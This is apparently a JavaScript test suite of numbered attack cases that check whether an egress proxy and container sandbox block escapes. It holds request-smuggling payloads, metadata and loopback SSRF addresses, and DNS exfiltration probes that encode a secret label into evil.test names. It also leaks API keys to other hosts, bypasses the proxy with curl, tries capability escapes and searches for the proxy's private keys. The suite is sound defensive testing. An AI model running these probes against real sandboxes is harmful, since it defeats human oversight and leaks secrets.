import { execFileSync } from 'node:child_process'
import { lookup } from 'node:dns/promises'
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { networkInterfaces } from 'node:os'
import { clientHello, inTwoRecords, withExtension } from './hello.mjs'
import {
  connect,
  datagram,
  dial,
  direct,
  inTunnel,
  PROXY,
  raw,
  read,
  secure,
  stream,
  tunnel,
} from './wire.mjs'

// The attack cases, from inside a governed container. An attempt has a name, what its end must look like, and what is
// done. Allowed: ok.test, *.wild.test, secret.test (holds a key), rules.test (has path rules), turn.test and
// private.test. Nothing else; denied.wild.test is denied by name. That nothing arrived is checked on the other side.

/** What the test knows and an agent could find out. */
const { internet, internet6, host, hostPort, sibling } = JSON.parse(
  process.env.LAY_OF_THE_LAND ?? '{}',
)
const LEASE = process.env.API_KEY ?? ''
const REFUSED = /^(400|403|421)\b|^closed/
const FORBIDDEN = /^403\b/
const MALFORMED = /^400\b/
const MISDIRECTED = /^421\b/
const NOTHING = /^(silent|closed|connected, (silent|closed)|E[A-Z]+)$/

const get = (url, hostLine, more = '') => `GET ${url} HTTP/1.1\r\nHost: ${hostLine}\r\n${more}\r\n`
const intercepted = (more) => ({
  authority: 'secret.test:443',
  sni: 'secret.test',
  head: 'GET / HTTP/1.1',
  ...more,
})
const odd = (url) => raw(get(url, 'ok.test'), { whole: false })
const ruled = (path) =>
  inTunnel({
    authority: 'rules.test:443',
    sni: 'rules.test',
    head: `GET ${path} HTTP/1.1`,
    lines: ['Host: rules.test'],
  })
const shell = (command) => {
  try {
    return (
      execFileSync('sh', ['-c', command], {
        encoding: 'utf8',
        timeout: 8_000,
        stdio: ['ignore', 'pipe', 'pipe'],
      }).trim() || 'nothing'
    )
  } catch (error) {
    return `failed: ${(error.stderr || error.stdout || error.code || '').toString().trim().split('\n').at(-1)}`
  }
}
/** What an ordinary user may send without any right, in Python: an echo request. It fails when nobody answers. */
const echo = (family, protocol, address) =>
  [
    'import socket',
    `to = socket.getaddrinfo('${address}', 0, socket.AF_${family})[0][4]`,
    `s = socket.socket(socket.AF_${family}, socket.SOCK_DGRAM, socket.IPPROTO_${protocol})`,
    's.settimeout(2)',
    `s.sendto(bytes([${protocol === 'ICMP' ? 8 : 128}]) + bytes(15), to)`,
    "print('ANSWERED', s.recvfrom(99)[1])",
  ].join('; ')
const each = (list, expected, action) =>
  list.map((item) => [String(item), expected, () => action(item)])

/** Sends a ClientHello in five segments; gives what came back, but for an alert. */
async function inPieces(servername, pack = (hello) => hello) {
  const socket = await tunnel('ok.test:443')
  const hello = pack(await clientHello(servername))
  const answer = read(socket, (text) => text.length > 7)
  for (let i = 0; i < 5; i += 1) {
    const [from, to] = [i, i + 1].map((fifth) => Math.floor((fifth * hello.length) / 5))
    socket.write(hello.subarray(from, to))
    await new Promise((resolve) => setTimeout(resolve, 150))
  }
  const { text, how } = await answer
  socket.destroy()
  if (text.length <= 7) return how
  return text.charCodeAt(0) === 0x16 ? 'SERVER HELLO' : JSON.stringify(text.slice(0, 20))
}

export const cases = [
  [
    1,
    'SNI is not CONNECT',
    [
      [
        'a tunnel',
        REFUSED,
        async () => {
          await secure(await tunnel('ok.test:443'), 'evil.test')
          return 'TLS was opened'
        },
      ],
      [
        'an intercepted host',
        REFUSED,
        () => inTunnel(intercepted({ sni: 'evil.test', lines: ['Host: secret.test'] })),
      ],
    ],
  ],
  [
    2,
    'no SNI, or a ClientHello in pieces',
    [
      [
        'no SNI',
        REFUSED,
        async () => {
          await secure(await tunnel('ok.test:443'), undefined)
          return 'TLS was opened'
        },
      ],
      [
        'no SNI, transparent',
        REFUSED,
        async () => {
          await secure(await dial({ host: PROXY.host, port: 443 }), undefined)
          return 'TLS was opened'
        },
      ],
      ['in five pieces, allowed', /^SERVER HELLO$/, () => inPieces('ok.test')],
      // An alert says no.
      ['in five pieces, SNI evil.test', NOTHING, () => inPieces('evil.test')],
      ['in two records, allowed', /^SERVER HELLO$/, () => inPieces('ok.test', inTwoRecords)],
      ['in two records, SNI evil.test', NOTHING, () => inPieces('evil.test', inTwoRecords)],
    ],
  ],
  [
    3,
    'the inner Host is not the SNI',
    [
      ['Host: evil.test', /^421\b/, () => inTunnel(intercepted({ lines: ['Host: evil.test'] }))],
      [
        'two Host lines',
        /^400\b/,
        () => inTunnel(intercepted({ lines: ['Host: secret.test', 'Host: evil.test'] })),
      ],
      ['no Host', MALFORMED, () => inTunnel(intercepted({}))],
      [
        'h2 :authority',
        /^421$/,
        () =>
          shell(
            `curl -sk --http2 --max-time 5 -o /dev/null -w '%{http_code}' https://secret.test/ -H 'Host: evil.test'`,
          ),
      ],
      [
        'h2 :authority beside another Host',
        /^421$/,
        () => stream('secret.test', { ':authority': 'secret.test', host: 'evil.test' }),
      ],
    ],
  ],
  [
    4,
    'a secret follows a spoofed Host',
    [
      [
        'another intercepted host',
        /^421\b/,
        () =>
          inTunnel({
            authority: 'rules.test:443',
            sni: 'rules.test',
            head: 'GET /ok/x HTTP/1.1',
            lines: ['Host: secret.test', `X-Api-Key: ${LEASE}`],
          }),
      ],
      [
        'plain HTTP',
        MISDIRECTED,
        () => raw(get('http://ok.test/', 'secret.test', `X-Api-Key: ${LEASE}\r\n`)),
      ],
    ],
  ],
  [
    5,
    'absolute URI and Host disagree',
    [
      ['evil URI', MISDIRECTED, () => raw(get('http://evil.test/', 'ok.test'))],
      ['evil Host', MISDIRECTED, () => raw(get('http://ok.test/case5', 'evil.test'))],
      [
        'transparent, evil URI',
        MISDIRECTED,
        () => raw(get('http://evil.test/', 'ok.test'), { to: { host: PROXY.host, port: 80 } }),
      ],
    ],
  ],
  [
    6,
    'trailing dots',
    [
      ['ok.test.', /^200$/, () => connect('ok.test.:443')],
      ['evil.test.', FORBIDDEN, () => connect('evil.test.:443')],
      ...each(['ok.test..:443', '127.0.0.1..:443', '.ok.test:443'], MALFORMED, connect),
    ],
  ],
  [
    7,
    'case',
    [
      ['OK.TeSt', /^200$/, () => connect('OK.TeSt:443')],
      ['EVIL.test', FORBIDDEN, () => connect('EVIL.test:443')],
      [
        'Host: OK.TEST, SNI ok.test',
        /^200\b/,
        () => inTunnel(intercepted({ lines: ['Host: SECRET.TEST'] })),
      ],
    ],
  ],
  [
    8,
    'brackets',
    [
      ...each(['[evil.test]:443', '[ok.test]:443', '[[::1]]:443'], MALFORMED, connect),
      ['[::1]', FORBIDDEN, () => connect('[::1]:443')],
      [
        'http://[169.254.169.254]/',
        MALFORMED,
        () => raw(get('http://[169.254.169.254]/', '[169.254.169.254]')),
      ],
    ],
  ],
  [
    9,
    'NUL and line ends in a host',
    [
      ...each(
        [
          'evil.test\0.wild.test:443',
          'evil.test%00.wild.test:443',
          'ok.test\r\nX-Y: z:443',
          'evil.test\t.wild.test:443',
          'evil.test .wild.test:443',
        ],
        MALFORMED,
        connect,
      ),
      [
        'by SOCKS',
        MALFORMED,
        () => raw('\x05\x01\0\x05\x01\0\x03\x13evil.test\0.wild.test\x01\xbb'),
      ],
    ],
  ],
  [
    10,
    'IPv6 zones',
    each(
      ['[::ffff:1.2.3.4%x.wild.test]:443', '[fe80::1%eth0]:443', '[::1%25lo]:80'],
      MALFORMED,
      connect,
    ),
  ],
  [
    11,
    'spellings of IPv4',
    each(
      [
        '2130706433',
        '0x7f.1',
        '0177.0.0.1',
        '127.1',
        '0xa9fea9fe',
        '127.0.0.1',
        '0x7f000001',
        '127.0.0.1.nip.io',
      ].map((name) => `${name}:443`),
      FORBIDDEN,
      connect,
    ),
  ],
  [
    12,
    'IPv6 that wraps IPv4',
    each(
      [
        '::ffff:a9fe:a9fe',
        '::127.0.0.1',
        '64:ff9b::a9fe:a9fe',
        '2002:7f00:1::',
        '2001:0:4136:e378:8000:63bf:3fff:fdd2',
        '::ffff:7f00:1',
        '64:ff9b:1::7f00:1',
      ].map((address) => `[${address}]:443`),
      FORBIDDEN,
      connect,
    ),
  ],
  [
    13,
    'ranges that are not public',
    each(
      [
        '0.0.0.0',
        '[::]',
        '100.64.0.1',
        '198.18.0.1',
        '192.0.0.1',
        '[fe80::1]',
        '224.0.0.1',
        '255.255.255.255',
        '10.0.0.1',
      ].map((address) => `${address}:443`),
      FORBIDDEN,
      connect,
    ),
  ],
  [
    14,
    'an allowed name that leads to a private address',
    [
      ['CONNECT', FORBIDDEN, () => connect('private.test:443')],
      ['plain HTTP', /^403\b/, () => raw(get('http://private.test/', 'private.test'))],
      [
        'transparent',
        /^403\b/,
        () => raw(get('/', 'private.test'), { to: { host: PROXY.host, port: 80 } }),
      ],
    ],
  ],
  // turn.test is public at first: the test turns it between the two runs of this case.
  [
    15,
    'a name that turns',
    [
      [
        'before or after',
        process.env.TURNED ? /^403\b/ : /^200 /,
        () => raw(get('http://turn.test/', 'turn.test')),
      ],
      [
        'in two requests of one connection',
        process.env.TURNED ? /^403\b/ : /^200 /,
        () => raw(get('http://turn.test/', 'turn.test')),
      ],
    ],
  ],
  [
    16,
    'metadata by other ways',
    [
      ...each(
        [
          'metadata.google.internal:80',
          '[fd00:ec2::254]:80',
          '169.254.170.2:80',
          '100.100.100.200:80',
          '168.63.129.16:80',
          '169.254.169.254:80',
        ],
        FORBIDDEN,
        connect,
      ),
      ['its name', /^ENOTFOUND$/, () => lookup('metadata.google.internal')],
    ],
  ],
  [
    17,
    'CONNECT to an address',
    [
      ['with the SNI of an allowed host', FORBIDDEN, () => connect(`${internet}:443`)],
      ['plain HTTP with its Host', MISDIRECTED, () => raw(get(`http://${internet}/`, 'ok.test'))],
    ],
  ],
  [
    18,
    'ports',
    each(
      [22, 25, 3306, 6379, 9999, 8443, 53, 853].map((port) => `ok.test:${port}`),
      FORBIDDEN,
      connect,
    ),
  ],
  [
    19,
    'ports that are no ports',
    each(
      [
        'ok.test:4294967739',
        'ok.test:-1',
        'ok.test:443x',
        'ok.test:',
        'ok.test',
        'ok.test:65979',
        'ok.test:0443',
        'ok.test:0',
        'ok.test:4 43',
        'ok.test:443:443',
      ],
      MALFORMED,
      connect,
    ),
  ],
  [
    20,
    'lengths that can be read in two ways',
    [
      ...[
        ['both lengths', 'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n'],
        ['an odd coding', 'Transfer-Encoding: xchunked\r\n'],
        ['a sign', 'Content-Length: +4\r\n'],
        ['two lengths', 'Content-Length: 4\r\nContent-Length: 5\r\n'],
        ['a folded line', 'X-A: b\r\n Content-Length: 4\r\n'],
        ['a space before the colon', 'Content-Length : 4\r\n'],
        ['chunked twice', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n'],
      ].map(([name, lines]) => [
        name,
        MALFORMED,
        () =>
          raw(
            `POST http://ok.test/case20 HTTP/1.1\r\nHost: ok.test\r\n${lines}\r\n0\r\n\r\n${get('http://evil.test/smuggled', 'evil.test')}`,
            { whole: false },
          ),
      ]),
      [
        'bare line feeds',
        MALFORMED,
        () =>
          raw(
            'GET http://ok.test/ HTTP/1.1\nHost: ok.test\n\nGET http://evil.test/smuggled HTTP/1.1\nHost: evil.test\n\n',
            { whole: false },
          ),
      ],
      [
        'a chunk that lies',
        /^(400\b|closed)/,
        () =>
          raw(
            `POST http://ok.test/upload HTTP/1.1\r\nHost: ok.test\r\nTransfer-Encoding: chunked\r\n\r\n1;\n\r\nx\r\n0\r\n\r\n${get('http://evil.test/smuggled', 'evil.test')}`,
            { whole: false },
          ),
      ],
    ],
  ],
  [
    21,
    'a second request in the same write',
    [
      [
        'evil behind ok',
        /^200 then 403\b/,
        () =>
          raw(
            get('http://ok.test/first', 'ok.test') + get('http://evil.test/pipelined', 'evil.test'),
            { whole: false },
          ).then((text) => text.replace(/^200 (403|421|400)\b/, '200 then $1')),
      ],
    ],
  ],
  [
    22,
    'another host on a connection that was allowed',
    [
      [
        'second request',
        /^200 then 403$/,
        async () => {
          const socket = await dial(PROXY)
          socket.write(get('http://ok.test/first', 'ok.test'))
          const first = await read(socket, (text) => text.includes('GET /first'))
          socket.write(get('http://evil.test/second', 'evil.test'))
          const second = await read(socket, (text) => text.includes('\r\n\r\n'))
          socket.destroy()
          return `${first.text.slice(9, 12)} then ${/HTTP\/1\.1 (\d+)/.exec(second.text)?.[1] ?? second.how}`
        },
      ],
    ],
  ],
  [
    23,
    'paths that are not what they seem',
    [
      ['what is allowed', /^200\b/, () => ruled('/ok/fine')],
      ...each(['/admin', '//admin', '/Ok/fine', '/okay'], FORBIDDEN, ruled),
      ...each(
        [
          '/ok/../admin',
          '/ok/%2e%2e/admin',
          '/ok/%2E%2E%2Fadmin',
          '/ok/..;/admin',
          '/ok\\..\\admin',
          '/ok/%252e%252e/admin',
          '/ok/.%2e/admin',
          '/ok/%00/../../admin',
          '/ok/#/../../admin',
          '/%6fk/../admin',
        ],
        MALFORMED,
        ruled,
      ),
      [
        'another method',
        FORBIDDEN,
        () =>
          inTunnel({
            authority: 'rules.test:443',
            sni: 'rules.test',
            head: 'DELETE /ok/fine HTTP/1.1',
            lines: ['Host: rules.test'],
          }),
      ],
      [
        'a method in another field',
        FORBIDDEN,
        () =>
          inTunnel({
            authority: 'rules.test:443',
            sni: 'rules.test',
            head: 'POST /ok/fine HTTP/1.1',
            lines: ['Host: rules.test', 'X-HTTP-Method-Override: GET', 'Content-Length: 0'],
          }),
      ],
    ],
  ],
  [
    24,
    'a tunnel for something else',
    [
      ...[
        'SSH-2.0-OpenSSH_9.6\r\n',
        '\0\0\0\0',
        'EHLO a\r\nSTARTTLS\r\n',
        'GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n',
      ].map((text) => [
        JSON.stringify(text.slice(0, 8)),
        NOTHING,
        async () => {
          const socket = await tunnel('ok.test:443')
          socket.write(text)
          const { text: answer, how } = await read(socket)
          socket.destroy()
          return answer.length <= 7 ? how : `ANSWERED ${answer.slice(0, 40)}`
        },
      ]),
    ],
  ],
  [
    25,
    'upgrades',
    [
      [
        'h2c',
        /^200 http:80 ok\.test GET \/h2c$/,
        () =>
          raw(
            get(
              'http://ok.test/h2c',
              'ok.test',
              'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n',
            ),
          ),
      ],
      [
        'foo, then free bytes',
        /^501\b(?!.*evil)/,
        () =>
          raw(
            `${get('http://ok.test/foo', 'ok.test', 'Connection: Upgrade\r\nUpgrade: foo\r\n')}${get('http://evil.test/upgraded', 'evil.test')}`,
            { whole: false },
          ),
      ],
      [
        'the preface of HTTP/2',
        MALFORMED,
        () => raw('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', { whole: false }),
      ],
    ],
  ],
  [
    26,
    'TRACE and fields for one hop',
    [
      [
        'TRACE',
        /^405\b/,
        () =>
          inTunnel(
            intercepted({
              head: 'TRACE / HTTP/1.1',
              lines: ['Host: secret.test', `X-Api-Key: ${LEASE}`],
            }),
          ),
      ],
      [
        'Connection: X-Api-Key',
        /^200\b/,
        () =>
          inTunnel(
            intercepted({
              lines: ['Host: secret.test', 'Connection: X-Api-Key', `X-Api-Key: ${LEASE}`],
            }),
          ),
      ],
      [
        'fields for the proxy and for one hop',
        /^200 \{(?!.*(proxy|x-drop))/i,
        () =>
          raw(
            get(
              'http://ok.test/echo',
              'ok.test',
              'Proxy-Authorization: Basic eDp5\r\nProxy_Authorization: x\r\nProxy-Connection: close\r\nConnection: X-Drop\r\nX-Drop: 1\r\n',
            ),
          ),
      ],
      [
        'Max-Forwards: 0',
        /^405\b/,
        () => raw(`TRACE http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nMax-Forwards: 0\r\n\r\n`),
      ],
    ],
  ],
  [
    27,
    'names that carry data',
    [
      ...each(
        ['A', 'AAAA', 'TXT', 'MX', 'NULL', 'CNAME', 'ANY', 'SRV', 'HTTPS'],
        /^NXDOMAIN$/,
        (type) =>
          shell(
            `dig +tries=1 +time=3 ${type} c2VjcmV0.x.evil.test | sed -n 's/.*status: \\([A-Z]*\\).*/\\1/p'`,
          ),
      ),
      [
        'below an allowed name, of a type that carries text',
        /^NOERROR$/,
        () =>
          shell(
            `dig +tries=1 +time=3 TXT c2VjcmV0.wild.test | sed -n 's/.*status: \\([A-Z]*\\).*/\\1/p'`,
          ),
      ],
    ],
  ],
  [
    28,
    'another name server',
    [
      [
        'UDP',
        /failed|timed out|no servers/,
        () => shell(`dig +tries=1 +time=2 @${internet} evil.test`),
      ],
      [
        'TCP',
        /failed|timed out|no servers/,
        () => shell(`dig +tcp +tries=1 +time=2 @${internet} evil.test`),
      ],
      ['over TLS', NOTHING, () => direct(internet, 853)],
      ['over HTTPS, by address', FORBIDDEN, () => connect('192.0.2.1:443')],
      ['over HTTPS, by name', FORBIDDEN, () => connect('dns.evil.test:443')],
    ],
  ],
  [
    29,
    'the name leaks before the verdict',
    [
      [
        'refused at once, whatever the name',
        /^403 in time$/,
        async () => {
          const began = Date.now()
          const end = await connect('c2VjcmV0.evil.test:443')
          return `${end.slice(0, 3)} ${Date.now() - began < 1_000 ? 'in time' : 'late'}`
        },
      ],
    ],
  ],
  [
    30,
    'the proxy is ignored',
    [
      ['TCP 443', NOTHING, () => direct(internet, 443)],
      ['TCP 80', NOTHING, () => direct(internet, 80)],
      [
        'curl --noproxy, allowed name',
        /ok\.test/,
        () => shell('curl -sk --noproxy "*" --max-time 5 https://ok.test/'),
      ],
      [
        'curl --noproxy, evil name',
        /^failed/,
        () => shell('curl -sSk --noproxy "*" --max-time 5 https://evil.test/'),
      ],
      [
        'curl --connect-to',
        /^failed|^nothing$/,
        () =>
          shell(
            'curl -sSk --noproxy "*" --max-time 5 --connect-to evil.test:443:ok.test:443 https://evil.test/',
          ),
      ],
      [
        'curl --resolve',
        /^failed|^nothing$/,
        () =>
          shell(
            `curl -sSk --noproxy '*' --max-time 3 --resolve evil.test:443:${internet} https://evil.test/`,
          ),
      ],
    ],
  ],
  [
    31,
    'UDP, QUIC, ICMP, raw',
    [
      ...each([443, 53, 9999], /^(sent|E[A-Z]+)$/, (port) =>
        datagram(internet, port, `canary-${port}`),
      ),
      [
        'ping',
        /^failed: (TimeoutError|PermissionError|OSError)/,
        () => shell(`python3 -c "${echo('INET', 'ICMP', internet)}"`),
      ],
      [
        'a raw socket',
        /^failed: PermissionError/,
        () =>
          shell(
            `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)"`,
          ),
      ],
      [
        'a packet socket',
        /^failed: PermissionError/,
        () => shell(`python3 -c "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"`),
      ],
    ],
  ],
  [
    32,
    'IPv6',
    [
      ['its address', NOTHING, () => (internet6 ? direct(internet6, 443) : 'ENETUNREACH')],
      [
        'no neighbour but the sidecars',
        /^none$/,
        async () => {
          const links = Object.entries(networkInterfaces()).flatMap(([name, list]) =>
            list.filter(({ address }) => address.startsWith('fe80')).map(() => name),
          )
          return links.length === 0
            ? 'none'
            : shell(`python3 -c "${echo('INET6', 'ICMPV6', `ff02::1%${links[0]}`)}" || echo none`)
        },
      ],
    ],
  ],
  [
    33,
    'the host',
    [
      ...each(host ?? [], NOTHING, (address) => direct(address, hostPort, '')),
      ['by its name', /^ENOTFOUND$/, () => lookup('host.docker.internal')],
    ],
  ],
  [
    34,
    'the control ports',
    [
      ...each(
        [
          'governance-broker:8700',
          'governance-proxy:3128',
          'governance-gateway:8811',
          '127.0.0.1:3128',
          'localhost:3128',
          `${PROXY.host}:3128`,
          `${PROXY.host}:53`,
          `${host?.[0]}:2375`,
        ],
        FORBIDDEN,
        connect,
      ),
      ['the broker, without the proxy', NOTHING, () => direct('governance-broker', 8700)],
      ['a management port of the proxy', NOTHING, () => direct(PROXY.host, 8700)],
    ],
  ],
  [
    35,
    'what a Compose file asks for',
    [
      [
        'the socket of the engine',
        /^none$/,
        () =>
          [
            '/var/run/docker.sock',
            '/run/docker.sock',
            '/run/containerd/containerd.sock',
            '/run/podman/podman.sock',
          ]
            .filter((path) => {
              try {
                return statSync(path)
              } catch {
                return false
              }
            })
            .join() || 'none',
      ],
      ['DOCKER_HOST', /^none$/, () => process.env.DOCKER_HOST ?? 'none'],
      // Its Compose file asks for these three.
      ['a network that leads out', NOTHING, () => direct(internet, 80)],
      ['a name server there', /^ENOTFOUND$/, () => lookup('asked.evil.test')],
      ['a name there', /^ENOTFOUND$/, () => lookup('evil.test')],
    ],
  ],
  [
    36,
    'undoing it with capabilities',
    [
      [
        'a route',
        /not permitted/,
        () => shell(`ip route replace default via $(getent hosts ${PROXY.host} | cut -d' ' -f1)`),
      ],
      ['an address', /not permitted/, () => shell('ip address add 198.51.100.200/24 dev eth0')],
      ['a new network namespace', /not permitted/, () => shell('unshare -n true')],
      [
        'a user namespace with one',
        /^failed/,
        () => shell('unshare -rn true && ip route add default via 198.18.0.1'),
      ],
      [
        'mounting /proc/sys',
        /failed/,
        () => shell('mount -o remount,rw /proc/sys; echo 1 > /proc/sys/net/ipv4/ip_forward'),
      ],
    ],
  ],
  [
    37,
    'the material of the proxy',
    [
      [
        'a private key',
        /^none$/,
        () =>
          readdirSync('/run/governance', { recursive: true, withFileTypes: true })
            .filter((entry) => entry.isFile())
            .filter((entry) =>
              readFileSync(`${entry.parentPath ?? entry.path}/${entry.name}`, 'utf8').includes(
                'PRIVATE KEY',
              ),
            )
            .map(({ name }) => name)
            .join() || 'none',
      ],
      [
        'writing what it trusts',
        /EROFS|EACCES|EPERM/,
        () =>
          shell('touch /run/governance/certificates/x 2>&1 || echo EROFS').replace(
            /.*Read-only.*|.*denied.*/s,
            'EROFS',
          ),
      ],
      [
        'processes of others',
        /^none$/,
        () =>
          readdirSync('/proc')
            .filter((name) => /^\d+$/.test(name))
            .map((pid) => {
              try {
                return readFileSync(`/proc/${pid}/cmdline`, 'utf8')
              } catch {
                return ''
              }
            })
            .filter((line) => line.includes('sidecar'))
            .join() || 'none',
      ],
    ],
  ],
  [
    38,
    'a relay in another sandbox',
    [
      ['by name', NOTHING, () => direct('relay', 3128)],
      ['by address', NOTHING, () => direct(sibling, 3128)],
      ['through the proxy', FORBIDDEN, () => connect('relay:3128')],
    ],
  ],
  [
    39,
    'names that look like an allowed one',
    [
      ...each(
        [
          'notok.test',
          'ok.test.evil.test',
          'xwild.test',
          'wild.test.evil.test',
          'ok-test',
          'okxtest',
          'test',
        ].map((name) => `${name}:443`),
        FORBIDDEN,
        connect,
      ),
      ...each(
        ['wild.test', 'a.wild.test', 'a.b.wild.test'].map((name) => `${name}:443`),
        /^200$/,
        connect,
      ),
    ],
  ],
  [
    40,
    'odd URLs',
    each(
      [
        'http://ok.test@evil.test/',
        'http://ok.test:80@evil.test/',
        'http://evil.test#@ok.test/',
        'http://evil.test\\@ok.test/',
        'http://ev\til.test/',
        'http:///evil.test/',
        'http:evil.test/',
        '//evil.test/',
        'ftp://evil.test/',
      ],
      MALFORMED,
      odd,
    ).concat(each(['http://evil.test?@ok.test/', 'HTTP://evil.test/'], MISDIRECTED, odd)),
  ],
  [
    41,
    'names in other scripts',
    [
      ...each(
        ['ｏｋ.test', '%6fk.test', 'o\u00adk.test', 'ok。test', 'оk.test'].map(
          (name) => `${name}:443`,
        ),
        MALFORMED,
        (name) => connect(Buffer.from(name).toString('latin1')),
      ),
      ['xn--evil-', FORBIDDEN, () => connect('xn--evil-.test:443')],
    ],
  ],
  [
    43,
    'redirects',
    [
      [
        'to another host',
        /(^| )403$/,
        () => shell(`curl -sL --max-time 5 -o /dev/null -w '%{http_code}' http://ok.test/redirect`),
      ],
      [
        'to the metadata',
        /(^| )403$/,
        () =>
          shell(
            `curl -sL --max-time 5 -o /dev/null -w '%{http_code}' http://ok.test/metadata-redirect`,
          ),
      ],
    ],
  ],
  [
    44,
    'ECH',
    [
      [
        'a ClientHello with an encrypted inner one',
        NOTHING,
        async () => {
          const socket = await tunnel('ok.test:443')
          socket.write(withExtension(await clientHello('ok.test'), 0xfe0d, Buffer.alloc(64, 1)))
          const { text, how } = await read(socket)
          socket.destroy()
          return text.length <= 7 ? how : `ANSWERED ${text.length} bytes`
        },
      ],
      [
        'no key for it is handed out',
        /^nothing$/,
        () => shell(`dig +tries=1 +time=3 +short HTTPS ok.test | grep -i ech; true`),
      ],
    ],
  ],
  [
    45,
    'slow and huge',
    [
      [
        'a head of a mebibyte',
        /^431\b/,
        () =>
          raw(get('http://ok.test/', 'ok.test', `X-Big: ${'x'.repeat(1 << 20)}\r\n`), {
            whole: false,
          }),
      ],
      [
        'two hundred that never end, and one that works',
        /^200\b/,
        async () => {
          const slow = await Promise.all(Array.from({ length: 200 }, () => dial(PROXY)))
          for (const socket of slow) socket.write('GET http://ok.test/ HTTP/1.1\r\nX-Slow: ')
          const end = await raw(get('http://ok.test/quick', 'ok.test'))
          for (const socket of slow) socket.destroy()
          return end
        },
      ],
    ],
  ],
  [
    46,
    'old protocols',
    [
      [
        'HTTP/0.9',
        /^(400\b|closed|silent)/,
        () => raw('GET http://evil.test/\r\n', { whole: false }),
      ],
      [
        'HTTP/1.0 without Host',
        /^200 http:80 ok\.test/,
        () => raw('GET http://ok.test/old HTTP/1.0\r\n\r\n', { whole: false }),
      ],
      [
        'HTTP/1.0 to evil',
        FORBIDDEN,
        () => raw('GET http://evil.test/ HTTP/1.0\r\n\r\n', { whole: false }),
      ],
      ['OPTIONS *', MALFORMED, () => raw('OPTIONS * HTTP/1.1\r\nHost: evil.test\r\n\r\n')],
      [
        'a method in lower case',
        MALFORMED,
        () => raw('get http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n'),
      ],
    ],
  ],
  [
    48,
    'an address that an allowed name had',
    [
      [
        'another port of where ok.test leads',
        NOTHING,
        async () => direct((await lookup('ok.test')).address, 22),
      ],
      [
        'SNI evil.test there',
        REFUSED,
        async () => {
          await secure(
            await dial({ host: (await lookup('ok.test')).address, port: 443 }),
            'evil.test',
          )
          return 'TLS was opened'
        },
      ],
      [
        'Host: evil.test there',
        FORBIDDEN,
        async () =>
          raw(get('/', 'evil.test'), { to: { host: (await lookup('ok.test')).address, port: 80 } }),
      ],
    ],
  ],
  [
    50,
    'deny before allow',
    [
      ...each(['denied.wild.test:443', 'x.denied.wild.test:443'], FORBIDDEN, connect),
      ['its name', /^ENOTFOUND$/, () => lookup('denied.wild.test')],
      ['its neighbour', /^200$/, () => connect('fine.wild.test:443')],
    ],
  ],
  [
    51,
    'a lease on its way to an allowed host',
    [
      [
        'in a field',
        FORBIDDEN,
        () => raw(get('http://ok.test/field', 'ok.test', `X-Api-Key: ${LEASE}\r\n`)),
      ],
      ['in the URL', FORBIDDEN, () => raw(get(`http://ok.test/?k=${LEASE}`, 'ok.test'))],
      [
        'in a body',
        FORBIDDEN,
        () =>
          raw(
            `POST http://ok.test/upload HTTP/1.1\r\nHost: ok.test\r\nContent-Length: ${LEASE.length}\r\n\r\n${LEASE}`,
            { whole: false },
          ),
      ],
      [
        'in Basic',
        FORBIDDEN,
        () =>
          raw(
            get(
              'http://ok.test/basic',
              'ok.test',
              `Authorization: Basic ${Buffer.from(`a:${LEASE}`).toString('base64')}\r\n`,
            ),
          ),
      ],
      [
        'in another field of its own host',
        FORBIDDEN,
        () => inTunnel(intercepted({ lines: ['Host: secret.test', `X-Other: ${LEASE}`] })),
      ],
      [
        'where it belongs',
        /^200\b/,
        () => inTunnel(intercepted({ lines: ['Host: secret.test', `X-Api-Key: ${LEASE}`] })),
      ],
    ],
  ],
  [
    52,
    'what must not be stopped',
    [
      [
        'a service named like an address',
        /^200 /,
        () => raw(get('/', 'cafe:8080'), { to: { host: 'cafe', port: 8080 } }),
      ],
      [
        'Expect: 100-continue',
        /^(100 )?200 .*got 5|^100 200/,
        () =>
          raw(
            'POST http://ok.test/upload HTTP/1.1\r\nHost: ok.test\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\nhello',
            { whole: false },
          ),
      ],
      ['an upper-case Host', /^200\b/, () => raw(get('http://OK.TEST/', 'OK.TEST'))],
      ['a port that is said', /^200\b/, () => raw(get('http://ok.test:80/', 'ok.test:80'))],
      [
        'HTTP/2 on a tunnel',
        /^2 200$/,
        () =>
          shell(
            `curl -sk --http2 --max-time 5 -o /dev/null -w '%{http_version} %{http_code}' https://ok.test/`,
          ),
      ],
    ],
  ],
]
